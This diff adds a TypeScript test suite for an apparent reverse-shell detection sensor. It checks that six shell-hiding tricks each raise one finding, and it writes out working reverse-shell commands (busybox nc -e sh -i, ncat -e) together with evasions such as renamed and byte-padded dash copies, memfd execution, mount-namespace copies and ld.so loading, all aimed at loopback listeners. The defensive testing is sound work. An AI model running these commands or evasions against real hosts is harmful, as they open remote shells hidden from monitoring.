@@ -1,0 +1,140 @@
+/**
+ * The evasion corpus, as the threat model reads: another name for the shell. Real programs
+ * against loopback listeners that send a command and read its answer, under the real sensor
+ * and the default rules. Each shell hides what it is from a name list (busybox applets, a copy
+ * of dash under a random name and path padded with random bytes, the same run by a relative
+ * path from another working directory, a file in another mount namespace, a memfd, ld.so
+ * loading the shell), and each must give exactly one finding saying which evidence named it,
+ * never the name.
+ */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Engine, ProcHostView, ProcessTable, builtinRules, type Finding } from "sockeye";
+import { randomBytes } from "node:crypto";
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import net from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { PYTHON, Session, kernelTier, run } from "./harness.js";
+
+const tier = kernelTier();
+
+interface IdentifiedFinding extends Finding {
+  destination?: { port: number };
+  sockeye: Finding["sockeye"] & { verdict: { identified_by?: string } };
+}
+
+/**
+ * A listener that sends `echo` of a marker the shell must compute, waits for the answer, keeps
+ * the shell alive a moment (the rules read /proc of live processes), then sends `exit`.
+ */
+async function commandingListener(): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const sockets = new Set<net.Socket>();
+  let resolveAnswered!: (ok: boolean) => void;
+  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    let got = "";
+    s.write("echo EVADED_$((6*7))\n");
+    s.on("data", (d: Buffer) => {
+      got += d.toString();
+      if (!got.includes("EVADED_42")) return;
+      resolveAnswered(true);
+      setTimeout(() => s.end("exit\n"), 1500);
+    });
+    s.on("close", () => resolveAnswered(got.includes("EVADED_42")));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return {
+    port: (server.address() as net.AddressInfo).port,
+    answered,
+    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
+  };
+}
+
+/** A name no list can hold: letters drawn at test time. */
+const randomName = () => `k${randomBytes(6).toString("hex")}`;
+
+describe.runIf(tier.run)("kernel: another name for the shell (evasions of name lists)", () => {
+  let session: Session;
+  const findings: IdentifiedFinding[] = [];
+  const top = mkdtempSync(join(tmpdir(), "sockeye-evasion-"));
+  /** dash, copied to a random name under a random path, with random bytes appended (its digest is no interpreter's). */
+  const copyDir = join(top, randomName(), randomName());
+  const copyName = randomName();
+  const otherCwd = join(top, randomName());
+
+  beforeAll(async () => {
+    mkdirSync(copyDir, { recursive: true });
+    mkdirSync(otherCwd);
+    writeFileSync(join(copyDir, copyName), Buffer.concat([readFileSync("/bin/dash"), randomBytes(1 + (randomBytes(1)[0]! % 64))]));
+    chmodSync(join(copyDir, copyName), 0o755);
+    session = await Session.open();
+    const table = new ProcessTable({ host: new ProcHostView() });
+    table.seedFromProc();
+    const engine = new Engine({ rules: builtinRules(), processes: table });
+    session.sensor.subscribe((events) => {
+      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as IdentifiedFinding);
+    });
+  });
+  afterAll(() => {
+    session?.close();
+    rmSync(top, { recursive: true, force: true });
+  });
+
+  const cases: { name: string; cmd: (port: number) => string[]; rule: string; identifiedBy: string }[] = [
+    {
+      name: "busybox nc H P -e /bin/busybox sh -i: the applet run decides",
+      cmd: (p) => ["busybox", "nc", "127.0.0.1", String(p), "-e", "/bin/busybox", "sh", "-i"],
+      rule: "TRC-101", identifiedBy: "applet",
+    },
+    {
+      name: "ncat -e of dash copied to a random name and path, padded with random bytes: its build-id",
+      cmd: (p) => ["ncat", "127.0.0.1", String(p), "-e", join(copyDir, copyName)],
+      rule: "RELAY-001", identifiedBy: "build_id",
+    },
+    {
+      name: "the same copy run by a relative path from another working directory than the daemon's",
+      cmd: (p) => ["bash", "-c", `cd ${copyDir} && exec ncat 127.0.0.1 ${p} -e ./${copyName}`],
+      rule: "RELAY-001", identifiedBy: "build_id",
+    },
+    {
+      name: "a copy of dash on a tmpfs mounted in another mount namespace (the daemon's view of the path is empty)",
+      cmd: (p) => ["unshare", "-m", "--propagation", "private", "bash", "-c",
+        `mount -t tmpfs tmpfs ${otherCwd} && cp /bin/dash ${otherCwd}/${copyName} && exec ncat 127.0.0.1 ${p} -e ${otherCwd}/${copyName}`],
+      rule: "RELAY-001", identifiedBy: "build_id",
+    },
+    {
+      name: "dash run from a memfd (/proc/self/fd/N) by busybox nc -e, which dup2s the socket onto stdio",
+      cmd: (p) => [PYTHON, "-c", [
+        "import os",
+        `fd = os.memfd_create("${randomName()}", 0)`,
+        'os.write(fd, open("/bin/dash", "rb").read())',
+        `os.execv("/bin/busybox", ["busybox", "nc", "127.0.0.1", "${p}", "-e", "/proc/self/fd/%d" % fd])`,
+      ].join("\n")],
+      rule: "TRC-101", identifiedBy: "build_id",
+    },
+    {
+      name: "ld.so /bin/sh on the socket: the program the loader loads",
+      cmd: (p) => ["busybox", "nc", "127.0.0.1", String(p), "-e", "/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-i"],
+      rule: "TRC-101", identifiedBy: "loader",
+    },
+  ];
+
+  for (const c of cases) {
+    it(c.name, async () => {
+      const listener = await commandingListener();
+      try {
+        const [cmd, ...args] = c.cmd(listener.port);
+        const r = await run("timeout", ["-s", "KILL", "10", cmd!, ...args]);
+        expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+        await session.settle();
+        const found = findings.filter((f) => f.destination?.port === listener.port);
+        expect(found.map((f) => f.rule.id)).toEqual([c.rule]);
+        expect(found[0]!.sockeye.verdict.identified_by).toBe(c.identifiedBy);
+      } finally {
+        await listener.close();
+      }
+    }, 20_000);
+  }
+});
